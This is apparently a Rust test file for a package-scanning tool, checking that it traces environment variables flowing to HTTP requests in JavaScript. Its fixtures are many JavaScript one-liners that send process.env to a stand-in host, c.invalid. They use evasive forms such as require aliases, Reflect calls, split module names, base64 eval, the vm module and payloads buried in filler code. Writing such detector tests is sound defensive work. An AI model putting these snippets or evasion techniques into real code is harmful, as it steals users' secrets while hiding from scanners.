//! Capabilities under other names.

use weir_model::contents::{SinkKind, SourceKind, Surface};

use super::{installed, run};

const ALIASES: &[(&str, &str)] = &[
    (
        "require on the global object",
        "global['r'] = require; const h = global['r']('https'); h.get('https://c.invalid/?' + JSON.stringify(process.env))",
    ),
    (
        "require on globalThis",
        "globalThis.q = require; q('https').get('https://c.invalid/?' + JSON.stringify(process.env))",
    ),
    (
        "require of the main module",
        "process.mainModule.require('https').get('https://c.invalid/?' + JSON.stringify(process.env))",
    ),
    (
        "the loader behind module.constructor",
        "module.constructor._load('https').get('https://c.invalid/?' + JSON.stringify(process.env))",
    ),
    (
        "createRequire",
        "import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('https').get('https://c.invalid/?' + JSON.stringify(process.env))",
    ),
    (
        "import()",
        "import('https').then(({ get }) => get('https://c.invalid/?' + JSON.stringify(process.env)))",
    ),
    (
        "destructuring",
        "const { env: e, ...rest } = process; const { get: g } = require('https'); g('https://c.invalid/?' + JSON.stringify(e))",
    ),
    (
        "a comma call",
        "(0, require('https').get)('https://c.invalid/?' + JSON.stringify(process.env))",
    ),
    (
        "Reflect.apply",
        "const h = require('https'); Reflect.apply(h.get, h, ['https://c.invalid/?' + JSON.stringify(process.env)])",
    ),
    (
        "call",
        "const h = require('https'); h.get.call(h, 'https://c.invalid/?' + JSON.stringify(process.env))",
    ),
    (
        "apply",
        "const h = require('https'); h.get.apply(h, ['https://c.invalid/?' + JSON.stringify(process.env)])",
    ),
    (
        "bind",
        "const h = require('https'); const g = h.get.bind(h); g('https://c.invalid/?' + JSON.stringify(process.env))",
    ),
    (
        "Reflect.get",
        "const h = require('https'); Reflect.get(h, 'get')('https://c.invalid/?' + JSON.stringify(Reflect.get(process, 'env')))",
    ),
    (
        "getBuiltinModule",
        "process.getBuiltinModule('https').get('https://c.invalid/?' + JSON.stringify(process.env))",
    ),
    (
        "a folded name",
        "require(['ht', 'tps'].join('')).get('https://c.invalid/?' + JSON.stringify(process.env))",
    ),
    (
        "a table of functions",
        "const t = { a: require('https').get, b: () => process.env }; t['a']('https://c.invalid/?' + JSON.stringify(t.b()))",
    ),
];

#[test]
fn capabilities_are_known_by_other_names() {
    let mut bad = Vec::new();
    for (name, code) in ALIASES {
        for (surface, facts) in [
            ("install", installed(&[("index.js", code)])),
            (
                "import",
                run(&[("index.js", code)], &[], &[(Surface::Import, "index.js")]),
            ),
        ] {
            let found = facts
                .flows
                .iter()
                .any(|flow| flow.source == SourceKind::Environment && flow.sink == SinkKind::Http);
            if !found {
                bad.push((name, surface));
            }
        }
    }
    assert!(bad.is_empty(), "{bad:?}");
}

#[test]
fn wrappers_and_re_exports_are_followed_through_files() {
    let files = [
        (
            "index.js",
            "const { go } = require('./a'); go(require('./env').all())",
        ),
        ("a.js", "module.exports = require('./b')"),
        (
            "b.js",
            "const send = require('./c'); exports.go = data => send.post(JSON.stringify(data))",
        ),
        (
            "c.js",
            "const h = require('https'); const post = body => { const r = h.request('https://c.invalid'); r.end(body) }; module.exports = { post }",
        ),
        ("env.js", "exports.all = () => ({ ...process.env })"),
    ];
    let facts = run(&files, &[], &[(Surface::Import, "index.js")]);
    assert_eq!(facts.flows.len(), 1, "{facts:#?}");
    assert_eq!(facts.flows[0].source_place.path, "env.js");
    assert_eq!(facts.flows[0].sink_place.path, "c.js");
}

/// Code in text: what is evaluated, and how it reaches its host.
const EVALUATED: &[(&str, &str)] = &[
    (
        "eval of a literal",
        r#"eval("require('https').get('https://c.invalid/?' + JSON.stringify(process.env))")"#,
    ),
    (
        "eval of base64",
        "eval(Buffer.from('cmVxdWlyZSgnaHR0cHMnKS5nZXQoJ2h0dHBzOi8vYy5pbnZhbGlkLz8nICsgSlNPTi5zdHJpbmdpZnkocHJvY2Vzcy5lbnYpKQ==', 'base64').toString())",
    ),
    (
        "a function of text",
        r#"new Function('require', 'process', "require('https').get('https://c.invalid/?' + JSON.stringify(process.env))")(require, process)"#,
    ),
    (
        "the value comes from outside",
        r#"const secrets = JSON.stringify(process.env); eval("require('https').get('https://c.invalid/?' + secrets)")"#,
    ),
    (
        "the result goes outside",
        r#"const secrets = eval("JSON.stringify(process.env)"); require('https').get('https://c.invalid/?' + secrets)"#,
    ),
    (
        "in the vm module",
        r#"require('vm').runInThisContext("fetch('https://c.invalid/?' + JSON.stringify(process.env))")"#,
    ),
    (
        "twice",
        r#"eval("eval('fetch(\"https://c.invalid/?\" + JSON.stringify(process.env))')")"#,
    ),
    (
        "compiled as a module",
        r#"const m = new module.constructor(); m._compile("fetch('https://c.invalid/?' + JSON.stringify(process.env))", 'x')"#,
    ),
];

#[test]
fn evaluated_constants_are_code() {
    let mut bad = Vec::new();
    for (name, code) in EVALUATED {
        for (surface, facts) in [
            ("install", installed(&[("index.js", code)])),
            (
                "import",
                run(&[("index.js", code)], &[], &[(Surface::Import, "index.js")]),
            ),
        ] {
            let found = facts.flows.iter().any(|flow| {
                flow.source == SourceKind::Environment
                    && flow.sink == SinkKind::Http
                    && flow.source_place.path == "index.js"
            });
            if !found {
                bad.push((name, surface));
            }
        }
    }
    assert!(bad.is_empty(), "{bad:?}");
}

#[test]
fn parts_of_a_large_file_are_followed() {
    let filler: String = (0..3_000)
        .map(|at| {
            format!(
                "function helper{at}(a, b) {{ return a + b * {at} - helper{}(b, a); }}\n",
                (at + 1) % 3_000
            )
        })
        .collect();
    let payload = "function gather() { return JSON.stringify(process.env); }\nfunction tell(x) { require('https').get('https://c.invalid/?' + x); }\ntell(gather());\n";
    let code = format!("{filler}{payload}{filler}");
    let facts = run(
        &[("index.js", &code)],
        &[],
        &[(Surface::Import, "index.js")],
    );
    assert_eq!(facts.flows.len(), 1, "{:#?}", facts.unread);
    let wrapped = format!(
        "(() => {{ var modules = {{ 1: (e, t) => {{ {filler} }}, 2: (e, t, n) => {{ {payload} }} }}; }})()"
    );
    let facts = run(
        &[("index.js", &wrapped)],
        &[],
        &[(Surface::Import, "index.js")],
    );
    assert_eq!(facts.flows.len(), 1, "{:#?}", facts.unread);
}
